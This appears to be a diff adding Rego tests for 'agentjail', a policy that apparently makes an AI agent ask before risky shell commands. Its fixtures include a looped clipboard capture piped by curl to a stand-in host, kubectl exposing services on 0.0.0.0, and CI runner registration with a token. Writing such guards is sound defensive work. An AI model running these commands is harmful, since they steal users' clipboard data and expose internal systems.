@@ -1,0 +1,38 @@
+package agentjail
+
+t_looped(cmd) := object.union(cmd, {"repeats": "forever"})
+
+t_loop_bash(cmds) := object.union(t_bash(cmds), {"agentjail": {"repeats": true}})
+
+test_clipboard_loop_to_file_asked if {
+	c := object.union(t_looped(t_cmd("pbpaste", [], [])), {"redirects": [{"op": ">>", "path": "/tmp/.c", "target": "/tmp/.c", "prefix": ""}]})
+	t_asked("collection.clipboard_loop", t_loop_bash([c]))
+}
+
+test_clipboard_loop_piped_asked if {
+	c := t_looped(t_cmd("xclip", ["-o", "-selection", "clipboard"], []))
+	curl := object.union(t_looped(t_cmd("curl", ["-d", "@-", "https://x.example.io"], [])), {"pipe_from": ["xclip"]})
+	t_asked("collection.clipboard_loop", t_loop_bash([c, curl]))
+}
+
+test_clipboard_once_allowed if {
+	c := object.union(t_cmd("pbpaste", [], []), {"redirects": [{"op": ">", "path": "/tmp/c", "target": "/tmp/c", "prefix": ""}]})
+	not t_fired("collection.clipboard_loop", t_bash([c]))
+}
+
+test_clipboard_write_loop_allowed if {
+	c := object.union(t_looped(t_cmd("xclip", ["-i", "-selection", "clipboard"], [])), {"redirects": [{"op": ">", "path": "/tmp/c", "target": "/tmp/c", "prefix": ""}]})
+	not t_fired("collection.clipboard_loop", t_loop_bash([c]))
+}
+
+test_kubectl_proxy_all_interfaces_asked if t_asked("network.expose_port", t_bash([t_cmd("kubectl", ["proxy", "--address", "0.0.0.0"], [])]))
+
+test_kubectl_port_forward_joined_asked if t_asked("network.expose_port", t_bash([t_cmd("kubectl", ["port-forward", "--address=0.0.0.0", "svc/db", "5432"], [])]))
+
+test_kubectl_port_forward_local_allowed if not t_fired("network.expose_port", t_bash([t_cmd("kubectl", ["port-forward", "--address", "127.0.0.1", "svc/db", "5432"], [])]))
+
+test_runner_register_asked if t_asked("ci.runner_register", t_bash([t_cmd("config.sh", ["--url", "https://github.com/a/b", "--token", "T"], [])]))
+
+test_gitlab_runner_register_asked if t_asked("ci.runner_register", t_bash([t_cmd("gitlab-runner", ["register"], [])]))
+
+test_gitlab_runner_status_allowed if not t_fired("ci.runner_register", t_bash([t_cmd("gitlab-runner", ["status"], [])]))
